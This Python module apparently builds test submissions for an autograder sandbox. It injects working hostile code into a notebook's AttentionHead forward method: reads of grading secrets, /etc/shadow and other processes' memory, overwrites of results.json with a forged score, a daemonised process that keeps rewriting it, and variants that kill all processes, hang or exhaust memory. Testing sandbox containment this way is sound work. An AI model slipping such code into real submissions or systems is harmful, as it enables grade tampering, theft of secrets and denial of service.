"""The submissions that the container grades: the master, and masters whose AttentionHead attacks, kills, hangs or is greedy."""

from __future__ import annotations

from collections.abc import Callable

import nbformat

from grader.authoring import notebooks as template


def master() -> str:
    return template.to_text(template.build_master())


def with_cell(change: Callable[[str], str]) -> str:
    """The master with its AttentionHead changed."""
    made = template.build_master()
    for cell in made["cells"]:
        if cell["id"] == "attention-head":
            before = cell["source"]
            cell["source"] = change(before)
            assert cell["source"] != before
    return nbformat.writes(made)


ATTACK = '''
import os as _os, glob as _glob, time as _time

def _attack():
    done = []
    def attempt(name, act):
        try:
            if act():
                done.append(name)
        except BaseException:
            pass
    def read(path):
        with open(path, "rb") as file:
            return len(file.read(64)) > 0
    def write(path):
        with open(path, "w") as file:
            file.write('{"score": 18}')
        return True
    for path in ("/autograder/source/seed.txt", "/autograder/source/rubric.yaml", "/autograder/results/results.json",
                 "/autograder/submission_metadata.json", "/opt/hw3-grader/lib/grader/_shipped/reference/homework3.py",
                 "/opt/hw3-grader/lib/grader/grade.py", "/etc/shadow", "/autograder/results/stdout"):
        attempt("read " + path, lambda: read(path))
    for path in ("/autograder/results/results.json", "/autograder/results/.first", "/autograder/run_autograder",
                 "/autograder/source/seed.txt", "/opt/hw3-grader/venv/lib/x", "/opt/hw3-grader/stamp"):
        attempt("write " + path, lambda: write(path))
    attempt("list results", lambda: bool(_os.listdir("/autograder/results")))
    attempt("list source", lambda: bool(_os.listdir("/autograder/source")))
    attempt("mode", lambda: _os.chmod("/autograder/results", 0o777) is None)
    attempt("replace", lambda: _os.replace("/autograder/results", "/autograder/old") is None)
    attempt("uid", lambda: _os.setuid(0) is None)
    attempt("link", lambda: _os.symlink("/autograder/source/seed.txt", "seed") is None and read("seed"))
    for path in _glob.glob("/proc/[0-9]*/environ") + _glob.glob("/proc/[0-9]*/mem"):
        if path.split("/")[2] != str(_os.getpid()):
            attempt("read " + path, lambda: read(path))
    for name in ("grader", "reference"):
        attempt("import " + name, lambda: __import__(name) is not None)
    if done:
        raise RuntimeError("BREACH " + "; ".join(done)[:250])

def _linger():
    """A process that outlives everything and tries again."""
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(600):
                try:
                    with open("/autograder/results/results.json", "w") as file:
                        file.write('{"score": 18, "output": "BREACH"}')
                except BaseException:
                    pass
                _time.sleep(0.1)
        _os._exit(0)
'''


KILL = """
import os as _os

def _kill():
    for pid in (*range(1, 400), -1):
        try:
            if pid != _os.getpid():
                _os.kill(pid, 9)
        except OSError:
            pass

"""


def with_forward(line: str, before: str = "") -> str:
    """The master, with a line more in AttentionHead's forward, and text before the class."""

    def change(source: str) -> str:
        lines = source.splitlines()
        place = next(number for number, text in enumerate(lines) if "def forward" in text)
        while not lines[place].rstrip().endswith(":"):
            place += 1
        lines.insert(place + 1, "        " + line)
        return "\n".join(lines).replace("class AttentionHead", before + "class AttentionHead", 1)

    return with_cell(change)


def hostile() -> str:
    """The right answers, which attack when they are called, and leave something behind."""
    return with_forward("_attack(); _linger() if _os.urandom(1) < b'\\x08' else None", ATTACK)


def killing() -> str:
    """Ends every process that it may, its own kernel among them."""
    return with_forward("_kill()", KILL)


def hanging() -> str:
    """Takes all the time that it gets, in one item."""
    return with_forward("while True: pass")


def greedy() -> str:
    """Takes memory without end, in one item."""
    return with_forward("_held = [bytearray(1 << 26) for _ in range(200)]")
